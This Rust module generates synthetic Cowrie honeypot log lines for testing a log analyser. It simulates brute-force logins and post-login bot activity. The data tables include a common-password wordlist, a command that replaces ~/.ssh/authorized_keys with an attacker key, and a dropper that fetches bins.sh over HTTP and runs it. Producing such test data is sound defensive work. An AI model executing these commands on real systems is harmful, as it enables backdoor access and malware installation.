//! Cowrie honeypot JSON lines, in the 2026 shape (`uuid`, ports and `protocol` on every event,
//! `duration` as a string): one SSH or Telnet session per unit.
//!
//! A session is `cowrie.session.connect`, for SSH `cowrie.client.version` and (60 %)
//! `cowrie.client.kex`, 1–6 `cowrie.login.failed` (user / password from wordlists), maybe a
//! `cowrie.login.success` followed by `cowrie.command.input` lines and a
//! `cowrie.session.file_download` (or `.failed`), and `cowrie.session.closed`. Sources come
//! from the [`Crowd`]: heavy hitters brute-force (up to 6 tries, rarely in), the others try a
//! few credentials and, once in (the honeypot accepts most passwords for `root`), run a bot's
//! command sequence.
//!
//! Events as ipscope counts them: connect → `connection`; version / kex → `client_info`;
//! failed → `auth/failure`; success → `auth/success` + `session_open`; command →
//! `command`; download → `download/success|failure`; closed → `session_close` if the session
//! logged in, else an ignored line.

use std::io::{self, Write};

use crate::crowd::{Crowd, Tier};
use crate::engine::{self, Model, SEC};
use crate::population::Addr;
use crate::render::{ADDR_TEXT, Stamp, Style, addr_text, push_hex, push_json_str, push_u64};
use crate::rng::Rng;
use crate::truth::{Ev, Tally, Truth};
use crate::{SshConfig, population as pop};

/// Longest script: connect, version, kex, 6 failed, success, 8 commands, download, closed.
const MAX_STEPS: usize = 20;
const MAX_COMMANDS: usize = 8;
/// Cowrie's SSH and Telnet ports (behind a redirect from 22 / 23).
const SSH_PORT: u16 = 2222;
const TELNET_PORT: u16 = 2223;

/// Passwords attackers try, most common first (public honeypot statistics).
const PASSWORDS: &[&str] = &[
    "123456",
    "admin",
    "password",
    "root",
    "12345678",
    "123456789",
    "1234",
    "12345",
    "qwerty",
    "111111",
    "123",
    "1q2w3e4r",
    "admin123",
    "root123",
    "P@ssw0rd",
    "test",
    "ubuntu",
    "raspberry",
    "1234567890",
    "000000",
    "toor",
    "abc123",
    "pass",
    "changeme",
    "qwerty123",
    "admin@123",
    "Passw0rd",
    "123qwe",
    "666666",
    "default",
    "support",
    "guest",
    "oracle",
    "postgres",
    "user",
    "1qaz2wsx",
    "welcome",
    "letmein",
    "Aa123456",
    "Huawei@123",
    "zxcvbnm",
    "987654321",
    "password1",
    "1",
    "alpine",
    "vizxv",
    "xc3511",
    "hi3518",
    "dreambox",
    "realtek",
    "",
];

/// SSH client version strings of bots and tools.
const VERSIONS: &[&str] = &[
    "SSH-2.0-Go",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-libssh2_1.10.0",
    "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10",
    "SSH-2.0-OpenSSH_7.4",
    "SSH-2.0-paramiko_3.4.0",
    "SSH-2.0-PUTTY",
    "SSH-2.0-AsyncSSH_2.14.2",
];

/// HASSH fingerprints (32 hex digits) with their algorithm lists, one per client family.
const KEX: &[(&str, &str)] = &[
    ("16443846184eafde36765c9bab2f4397", "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256"),
    ("0a07365cc01fa9fc82608ba4019af499", "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1"),
    ("ec7378c1a92f5a8dde7e8b7a1ddf33d1", "curve25519-sha256,ecdh-sha2-nistp256,diffie-hellman-group-exchange-sha256"),
    ("b5752e36ba6c5979a575e43178908adf", "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1"),
];

/// What bots type once in: a few reconnaissance commands, then (sometimes) a dropper.
const COMMANDS: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "echo -e \"\\x6F\\x6B\"",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
    "cat /etc/passwd",
    "nproc",
    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{H}/bins.sh; chmod 777 bins.sh; sh bins.sh",
];

/// File names a dropper fetches.
const FILES: &[&str] = &["bins.sh", "x86", "mips", "arm7", "sshd", "kworker", "ohshit.sh", "Fourloko.sh"];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Step {
    Connect,
    Version,
    Kex,
    Failed,
    Success,
    Command,
    Download,
    DownloadFailed,
    Closed,
}

pub(crate) struct Session {
    steps: [Step; MAX_STEPS],
    n: u8,
    pos: u8,
    id: u64,
    uuid: u32,
    addr: Addr,
    addr_txt: [u8; ADDR_TEXT],
    addr_len: u8,
    port: u16,
    telnet: bool,
    client: u8,
    /// The user who got in (set by the success line).
    user: &'static str,
    logged_in: bool,
    /// Index into [`COMMANDS`] of the next command.
    cmd: u8,
    started: i64,
    pace: f64,
}

struct Cowrie<'a> {
    cfg: &'a SshConfig,
    r: Rng,
    crowd: Crowd,
    users: pop::UserTable,
    stamp: Stamp,
    dst4: Vec<u8>,
    dst6: Vec<u8>,
    /// Malware hosts (`http://HOST/file`), drawn once.
    hosts: Vec<Addr>,
}

/// Writes `cfg.lines` Cowrie JSON lines; see the module docs.
pub(crate) fn write<W: Write>(cfg: &SshConfig, out: W) -> io::Result<Truth> {
    let mut r = Rng::new(cfg.seed ^ 0x00c0_471e);
    let end = cfg.start_micros + i64::from(cfg.days) * engine::DAY;
    let crowd = Crowd::new(&mut r, cfg.lines, cfg.start_micros, end, 0.35, 0.16);
    let hosts = (0..(cfg.lines / 20_000).clamp(5, 400)).map(|_| pop::scanner_addr(&mut r)).collect();
    let mut m = Cowrie {
        cfg,
        r: Rng::new(cfg.seed ^ 0x00c0_471e_0001),
        crowd,
        users: pop::UserTable::new(),
        stamp: Stamp::new(Style::IsoMicrosZ),
        dst4: cfg.server_ip.to_string().into_bytes(),
        dst6: cfg.server_ip6.to_string().into_bytes(),
        hosts,
    };
    engine::run(cfg, &mut m, &mut r, out)
}

impl Cowrie<'_> {
    fn push_step(s: &mut Session, step: Step) {
        if usize::from(s.n) < MAX_STEPS {
            s.steps[usize::from(s.n)] = step;
            s.n += 1;
        }
    }

    fn password(&mut self) -> &'static str {
        PASSWORDS[self.r.skewed(PASSWORDS.len() as u64) as usize]
    }

    /// `"session":"..","protocol":"..","src_ip":"..","src_port":N,"dst_ip":"..","dst_port":N,`
    fn head(&self, s: &Session, b: &mut Vec<u8>) {
        b.extend_from_slice(b"{\"session\":\"");
        push_hex(b, u128::from(s.id), 12);
        b.extend_from_slice(if s.telnet { b"\",\"protocol\":\"telnet\"" } else { b"\",\"protocol\":\"ssh\"" });
        b.extend_from_slice(b",\"src_ip\":\"");
        b.extend_from_slice(&s.addr_txt[..usize::from(s.addr_len)]);
        b.extend_from_slice(b"\",\"src_port\":");
        push_u64(b, u64::from(s.port));
        b.extend_from_slice(b",\"dst_ip\":\"");
        b.extend_from_slice(if matches!(s.addr, Addr::V6(_)) { &self.dst6 } else { &self.dst4 });
        b.extend_from_slice(b"\",\"dst_port\":");
        push_u64(b, u64::from(if s.telnet { TELNET_PORT } else { SSH_PORT }));
        b.push(b',');
    }

    /// `"eventid":"..","sensor":"..","uuid":"..","timestamp":"..","message":` (the message follows).
    fn tail(&mut self, s: &Session, ts: i64, eventid: &str, b: &mut Vec<u8>) {
        b.extend_from_slice(b"\"eventid\":\"");
        b.extend_from_slice(eventid.as_bytes());
        b.extend_from_slice(b"\",\"sensor\":");
        push_json_str(b, &self.cfg.host);
        b.extend_from_slice(b",\"uuid\":\"");
        push_hex(b, u128::from(s.uuid), 8);
        b.extend_from_slice(b"-8fc4-11f1-9350-ee70fe9b2de3\",\"timestamp\":\"");
        self.stamp.push(ts, b);
        b.extend_from_slice(b"\",\"message\":");
    }

    fn command_text(&mut self, s: &Session) -> String {
        let c = COMMANDS[usize::from(s.cmd) % COMMANDS.len()];
        if c.contains("{H}") {
            let h = self.hosts[self.r.below(self.hosts.len() as u64) as usize];
            c.replace("{H}", &h.ip().to_string())
        } else {
            c.to_owned()
        }
    }
}

impl Model for Cowrie<'_> {
    type Unit = Session;

    fn prior_lines(&self) -> f64 {
        6.0
    }

    fn start(&mut self, t: i64) -> (Session, u32) {
        let (addr, tier) = self.crowd.pick(&mut self.r, t);
        let (addr_txt, addr_len) = addr_text(addr);
        let telnet = self.r.chance(0.12);
        let mut s = Session {
            steps: [Step::Closed; MAX_STEPS],
            n: 0,
            pos: 0,
            id: self.r.u64() & 0xffff_ffff_ffff,
            uuid: self.r.u64() as u32,
            addr,
            addr_txt,
            addr_len,
            port: self.r.range(1_024, 65_535) as u16,
            telnet,
            client: self.r.skewed(VERSIONS.len() as u64) as u8,
            user: "root",
            logged_in: false,
            cmd: 0,
            started: t,
            pace: 0.0,
        };
        Self::push_step(&mut s, Step::Connect);
        if !telnet {
            Self::push_step(&mut s, Step::Version);
            if self.r.chance(0.6) {
                Self::push_step(&mut s, Step::Kex);
            }
        }
        let (tries, p_in, pace) = match tier {
            Tier::Heavy(_) => (self.r.range(1, 6), 0.03, 0.5),
            Tier::Medium => (self.r.range(1, 4), 0.2, 1.5),
            Tier::OneOff => (self.r.range(0, 3), 0.3, 2.0),
        };
        s.pace = pace;
        for _ in 0..tries {
            Self::push_step(&mut s, Step::Failed);
        }
        if self.r.chance(p_in) {
            Self::push_step(&mut s, Step::Success);
            let n = self.r.range(1, MAX_COMMANDS as u64);
            s.cmd = self.r.below(COMMANDS.len() as u64) as u8;
            for _ in 0..n {
                Self::push_step(&mut s, Step::Command);
            }
            match self.r.below(10) {
                0..=2 => Self::push_step(&mut s, Step::Download),
                3 => Self::push_step(&mut s, Step::DownloadFailed),
                _ => {}
            }
        }
        Self::push_step(&mut s, Step::Closed);
        let n = u32::from(s.n);
        (s, n)
    }

    fn line(&mut self, t: i64, ts: i64, s: &mut Session, b: &mut Vec<u8>, tally: &mut Tally) -> Option<i64> {
        let step = s.steps[usize::from(s.pos)];
        tally.line(ts);
        self.head(s, b);
        match step {
            Step::Connect => {
                tally.address(s.addr);
                tally.event(Ev::Connection);
                self.tail(s, ts, "cowrie.session.connect", b);
                b.extend_from_slice(b"\"New connection: ");
                b.extend_from_slice(&s.addr_txt[..usize::from(s.addr_len)]);
                b.push(b':');
                push_u64(b, u64::from(s.port));
                b.extend_from_slice(b" (");
                b.extend_from_slice(if matches!(s.addr, Addr::V6(_)) { &self.dst6 } else { &self.dst4 });
                b.push(b':');
                push_u64(b, u64::from(if s.telnet { TELNET_PORT } else { SSH_PORT }));
                b.extend_from_slice(b") [session: ");
                push_hex(b, u128::from(s.id), 12);
                b.extend_from_slice(b"]\"");
            }
            Step::Version => {
                tally.event(Ev::ClientInfo);
                let v = VERSIONS[usize::from(s.client)];
                b.extend_from_slice(b"\"version\":");
                push_json_str(b, v);
                b.push(b',');
                self.tail(s, ts, "cowrie.client.version", b);
                b.extend_from_slice(b"\"Remote SSH version: ");
                b.extend_from_slice(v.as_bytes());
                b.push(b'"');
            }
            Step::Kex => {
                tally.event(Ev::ClientInfo);
                let (hassh, algs) = KEX[usize::from(s.client) % KEX.len()];
                b.extend_from_slice(b"\"hassh\":\"");
                b.extend_from_slice(hassh.as_bytes());
                b.extend_from_slice(b"\",\"hasshAlgorithms\":\"");
                b.extend_from_slice(algs.as_bytes());
                b.extend_from_slice(b";aes128-ctr,aes256-ctr;hmac-sha2-256;none\",\"kexAlgs\":[");
                for (i, a) in algs.split(',').enumerate() {
                    if i > 0 {
                        b.push(b',');
                    }
                    push_json_str(b, a);
                }
                b.extend_from_slice(
                    b"],\"keyAlgs\":[\"ssh-ed25519\",\"rsa-sha2-256\"],\"encCS\":[\"aes128-ctr\",\"aes256-ctr\"],\
                      \"macCS\":[\"hmac-sha2-256\"],\"compCS\":[\"none\"],\"langCS\":[\"\"],",
                );
                self.tail(s, ts, "cowrie.client.kex", b);
                b.extend_from_slice(b"\"SSH client hassh fingerprint: ");
                b.extend_from_slice(hassh.as_bytes());
                b.push(b'"');
            }
            Step::Failed | Step::Success => {
                let ok = step == Step::Success;
                let user = if ok {
                    if self.r.chance(0.85) { "root" } else { self.users.pick(&mut self.r) }
                } else {
                    self.users.pick(&mut self.r)
                };
                let mut pw = self.password();
                if ok && pw.is_empty() {
                    pw = "admin";
                }
                b.extend_from_slice(b"\"username\":");
                push_json_str(b, user);
                b.extend_from_slice(b",\"password\":");
                push_json_str(b, pw);
                b.push(b',');
                if ok {
                    tally.event(Ev::AuthSuccess);
                    tally.event(Ev::SessionOpen);
                    s.user = user;
                    s.logged_in = true;
                    self.tail(s, ts, "cowrie.login.success", b);
                } else {
                    tally.event(Ev::AuthFailure);
                    self.tail(s, ts, "cowrie.login.failed", b);
                }
                let msg = format!("login attempt [{user}/{pw}] {}", if ok { "succeeded" } else { "failed" });
                push_json_str(b, &msg);
            }
            Step::Command => {
                tally.event(Ev::Command);
                let c = self.command_text(s);
                s.cmd = s.cmd.wrapping_add(1) % COMMANDS.len() as u8;
                b.extend_from_slice(b"\"input\":");
                push_json_str(b, &c);
                b.push(b',');
                self.tail(s, ts, "cowrie.command.input", b);
                push_json_str(b, &format!("CMD: {c}"));
            }
            Step::Download | Step::DownloadFailed => {
                let hi = self.r.below(self.hosts.len() as u64) as usize;
                let fi = self.r.below(FILES.len() as u64) as usize;
                let url = format!("http://{}/{}", self.hosts[hi].ip(), FILES[fi]);
                b.extend_from_slice(b"\"url\":");
                push_json_str(b, &url);
                b.push(b',');
                if step == Step::Download {
                    tally.event(Ev::DownloadSuccess);
                    // One file per (host, name): the same payload has the same hash.
                    let mut h = Rng::new((hi as u64) << 8 | fi as u64);
                    let sha = [h.u64(), h.u64(), h.u64(), h.u64()];
                    let mut hex = Vec::with_capacity(64);
                    for x in sha {
                        push_hex(&mut hex, u128::from(x), 16);
                    }
                    let hex = String::from_utf8_lossy(&hex).into_owned();
                    b.extend_from_slice(b"\"outfile\":\"var/lib/cowrie/downloads/");
                    b.extend_from_slice(hex.as_bytes());
                    b.extend_from_slice(b"\",\"shasum\":\"");
                    b.extend_from_slice(hex.as_bytes());
                    b.extend_from_slice(b"\",\"destfile\":\"\",");
                    self.tail(s, ts, "cowrie.session.file_download", b);
                    let msg = format!("Downloaded URL ({url}) with SHA-256 {hex} to var/lib/cowrie/downloads/{hex}");
                    push_json_str(b, &msg);
                } else {
                    tally.event(Ev::DownloadFailure);
                    self.tail(s, ts, "cowrie.session.file_download.failed", b);
                    push_json_str(b, &format!("Attempt to download file(s) from URL ({url}) failed"));
                }
            }
            Step::Closed => {
                if s.logged_in {
                    tally.event(Ev::SessionClose);
                } else {
                    tally.t.ignored_lines += 1;
                }
                let tenths = ((t - s.started).max(0) + SEC / 20) / (SEC / 10);
                let secs = format!("{}.{}", tenths / 10, tenths % 10);
                b.extend_from_slice(b"\"duration\":\"");
                b.extend_from_slice(secs.as_bytes());
                b.extend_from_slice(b"\",");
                self.tail(s, ts, "cowrie.session.closed", b);
                push_json_str(b, &format!("Connection lost after {secs} seconds"));
            }
        }
        b.extend_from_slice(b"}\n");
        s.pos += 1;
        let next = *s.steps.get(usize::from(s.pos)).filter(|_| s.pos < s.n)?;
        let gap = match (step, next) {
            (Step::Connect, _) => 0.002 + 0.05 * self.r.unit(),
            (Step::Version, _) => 0.05 + 0.15 * self.r.unit(),
            (_, Step::Failed | Step::Success) => s.pace * (0.2 + self.r.unit()),
            (_, Step::Command) => 0.3 + 4.0 * self.r.unit(),
            (_, Step::Download | Step::DownloadFailed) => 1.0 + 10.0 * self.r.unit(),
            // Idle sessions that never logged in time out (Cowrie's default: 180 s).
            (_, Step::Closed) if !s.logged_in && s.n <= 3 => 180.0,
            (_, Step::Closed) => 0.1 + 3.0 * self.r.unit(),
            _ => 1.0,
        };
        Some(t + (gap * SEC as f64) as i64)
    }
}
